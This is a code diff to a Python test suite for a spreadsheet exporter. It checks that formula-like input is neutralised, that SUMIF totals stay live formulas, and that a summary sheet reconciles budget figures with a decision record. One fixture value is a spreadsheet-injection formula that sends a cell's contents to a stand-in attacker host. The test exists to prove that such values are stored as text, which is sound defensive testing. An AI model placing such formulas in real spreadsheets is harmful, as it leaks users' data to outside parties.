@@ -93,8 +93,31 @@ def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
 
     book = Workbook()
     sheet = book.active
-    sheet.append(['=HYPERLINK("http://evil.example/?"&A2,"click")', "=SUM(B2:B9)", '=IF(C3=0,"",B3/C3)', "+1+2"])
+    sheet.append(['=HYPERLINK("http://evil.example/?"&A2,"click")', "=SUM(B2:B9)", '=IF(C3=0,"",B3/C3)', "+1+2",
+                  '=SUMIF($B$2:$B$9,"Yes",H2:H9)', '=SUMIF($B$2:$B$9,"x",H2:H9)'])
     _text_stays_text(book)
     kinds = [cell.data_type for cell in sheet[1]]
-    assert kinds == ["s", "f", "f", "s"]
+    assert kinds == ["s", "f", "f", "s", "f", "s"]
     book.save(tmp_path / "x.xlsx")
+
+
+def test_money_formats_take_the_true_minus_and_totals_are_live_formulas(workbook: object) -> None:
+    assert POUNDS.endswith('"\u2212£"#,##0')
+    for name in ("Portfolio", "Inputs - budgets"):
+        sheet = workbook[name]  # type: ignore[index]
+        formulas = [c for c in sheet[sheet.max_row] if isinstance(c.value, str) and c.value.startswith("=SUMIF(")]
+        assert formulas
+        assert all(c.data_type == "f" for c in formulas)  # a total Excel works out, not text
+
+
+def test_the_summary_reconciles_and_cites_the_decision(workbook: object, decided: DecisionRecord) -> None:
+    sheet = workbook["Summary"]  # type: ignore[index]
+    facts = {row[0].value: row[1].value for row in sheet.iter_rows() if len(row) > 1}
+    out = decided.outcome
+    assert facts["How the money adds up"] == out.reconciliation.words()
+    assert facts["Available"] == pytest.approx(out.budget + out.released)
+    assert facts["Left"] == pytest.approx(out.budget + out.released - out.spent)
+    assert facts["Decision"] == f"{decided.decision.id}: {decided.decision.title}"  # type: ignore[union-attr]
+    assert facts["Stored result"] == decided.decision.result_id  # type: ignore[union-attr]
+    assert facts["The result still matches the plan"] == "Yes"
+    assert str(facts["Recommendation"]).startswith("The board is asked to approve the portfolio of")
